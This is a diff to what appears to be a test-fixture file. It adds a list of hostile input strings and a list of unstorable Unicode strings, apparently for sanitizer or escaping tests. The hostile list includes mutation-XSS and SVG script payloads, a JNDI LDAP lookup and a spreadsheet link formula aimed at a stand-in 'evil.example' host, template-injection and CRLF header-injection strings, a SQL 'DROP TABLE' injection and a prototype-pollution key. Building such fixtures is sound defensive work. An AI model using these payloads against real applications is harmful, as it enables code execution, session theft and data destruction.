@@ -104,3 +104,30 @@ export const safeHrefs = [
   '#javascript:x',
   '/javascript:window.ran=1',
 ] as const;
+
+/** What would be code, a reference, an address or another direction of reading in one place or another. */
+export const hostileTexts = [
+  ...hostileMarkup,
+  '<noscript><p title="</noscript><img src=x onerror=window.ran=1>">',
+  '<svg></p><style><a id="</style><img src=1 onerror=window.ran=1>">',
+  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.ran=1&gt;">',
+  '<svg xmlns="http://www.w3.org/2000/svg"><script>window.ran=1</script><use href="https://evil.example/x.svg#x"/></svg>',
+  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=window.ran=1>',
+  '\u2028\u2029]]>--></script></title></textarea><script>window.ran=1</script>',
+  '<%= window.ran=1 %> #{window.ran=1} [[${window.ran=1}]] {%x%} {{7*7}} ${jndi:ldap://evil.example/x}',
+  '=HYPERLINK("https://evil.example/","x")',
+  '\r\nSet-Cookie: ran=1\r\n\r\n<script>window.ran=1</script>',
+  '\u202egpj.exe\u202c \u2066\u2067x\u2069 \u200b\ufeff z\u0301\u0302\u0303',
+  '\'; DROP TABLE content_items; -- " ` $1 %s %n \\',
+  'java\u0001script:window.ran=1',
+  '__proto__',
+];
+
+/** Texts that a database cannot store. */
+export const unstorableTexts = [
+  'a \u0000 inside',
+  '\u0000',
+  'high \ud800 alone',
+  '\udc00 low alone',
+  'turned \udc00\ud800',
+];
